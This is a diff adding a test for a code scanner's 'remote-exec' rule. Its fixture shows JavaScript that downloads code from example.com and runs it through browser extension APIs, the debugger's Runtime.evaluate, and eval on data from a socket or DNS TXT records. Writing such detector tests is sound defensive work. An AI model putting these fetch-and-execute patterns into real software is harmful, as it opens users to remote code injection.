@@ -471,4 +471,24 @@ describe('remote-exec', () => {
            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
     `;
   });
+
+  it('follows a download to the scripts of an extension, and from sockets and records of names', () => {
+    javascript`
+      import browser from 'webextension-polyfill';
+      import dns from 'node:dns';
+      import net from 'node:net';
+      const code = await (await fetch('https://example.com/a.js')).text();
+      browser.tabs.executeScript(1, { code });
+                                      ^^^^ remote-exec
+      chrome.userScripts.register([{ id: 'a', js: [{ code }] }]);
+                                  ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+      chrome.userScripts.register([{ id: 'a', js: [{ file: 'a.js' }] }]);
+      chrome.debugger.sendCommand({ tabId: 1 }, 'Runtime.evaluate', { expression: code });
+                                                                                  ^^^^ remote-exec
+      net.connect(80, 'example.com').on('data', (data) => eval(data.toString()));
+                                                               ^^^^^^^^^^^^^^^ remote-exec
+      dns.resolveTxt('example.com', (error, records) => eval(records.join('')));
+                                                             ^^^^^^^^^^^^^^^^ remote-exec
+    `;
+  });
 });
